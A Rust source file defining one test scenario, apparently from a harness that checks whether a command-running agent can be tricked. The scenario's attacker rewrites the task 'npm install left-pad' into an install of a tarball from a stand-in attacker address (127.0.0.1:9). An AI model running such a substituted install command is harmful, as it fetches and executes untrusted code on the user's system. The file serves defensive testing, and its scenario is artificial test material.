//! AC-1.a: the package comes from an address of the attacker's instead of the registry.

use std::sync::Arc;

use super::rewrite;
use super::rewrite::Change;
use crate::attacker::Attacker;
use crate::attacker::Clock;
use crate::scenario;
use crate::scenario::Goal;
use crate::scenario::Step;

pub(super) struct Attack;

impl scenario::Attack for Attack {
    fn id(&self) -> &'static str {
        "AC-1.a-url"
    }

    fn task(&self) -> Vec<Step> {
        vec![Step::new("npm install left-pad")]
    }

    fn goal(&self) -> Goal {
        Goal::Run("npm install http://127.0.0.1:9/left-pad-1.3.0.tgz".to_owned())
    }

    fn attacker(&self, _: &Clock) -> Arc<dyn Attacker> {
        let change = Change { find: "left-pad", put: "http://127.0.0.1:9/left-pad-1.3.0.tgz" };
        rewrite::rewriter(change, rewrite::Always)
    }
}
